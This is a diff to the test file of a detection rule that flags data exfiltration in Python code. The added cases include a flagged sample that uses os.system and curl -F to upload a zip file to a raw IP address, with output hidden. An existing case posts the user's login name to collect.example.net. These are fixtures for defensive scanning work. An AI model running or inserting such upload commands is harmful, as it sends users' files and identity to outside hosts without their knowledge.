@@ -3,6 +3,7 @@ import rule from './py-exfiltration.js';
 
 ruleTest(rule, {
   clean: [
+    { name: 'curl downloading a file (no upload)', file: 'get.py', code: `import os\nos.system("curl -L -o tool.tar.gz https://github.com/org/tool/releases/download/v1/tool.tar.gz")\n` },
     { name: 'base64 image data is not a URL', file: 'img.py', code: `LOGO = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg=="\n` },
     { name: 'resolving the own hostname (smtplib, uuid)', file: 'smtplib.py', code: `import socket\naddr = socket.gethostbyname(socket.gethostname())\n` },
     { name: 'local dev server', file: 'app.py', code: `import requests\nr = requests.get("http://127.0.0.1:1245/api/health")\nr2 = requests.post("http://192.168.1.10:8000/x", json={"a": 1})\n` },
@@ -68,6 +69,12 @@ ruleTest(rule, {
       file: 's.py',
       code: `import aiohttp, getpass\nasync def go():\n    session = aiohttp.ClientSession()\n    await session.post("https://collect.example.net/u", data={"u": getpass.getuser()})\n`,
       findings: [{ line: 4, message: /host identity \(getpass\.getuser\)/, severity: 'high', confidence: 'medium' }],
+    },
+    {
+      name: 'a zip posted with curl -F to a raw IP',
+      file: 'api.py',
+      code: `import os\ndef up(zipname):\n    command = "curl -k -F \\"file=@" + zipname + "\\" \\"https://54.254.189.27/api/v1/file/upload\\" > /dev/null 2>&1"\n    os.system(command)\n`,
+      findings: [{ line: 3, severity: 'high', confidence: 'high', message: /Uploads a file with curl \(-F "file=@\) to https:\/\/54\.254\.189\.27\/api\/v1\/file\/upload \(a raw IP address\)/ }],
     },
   ],
 });
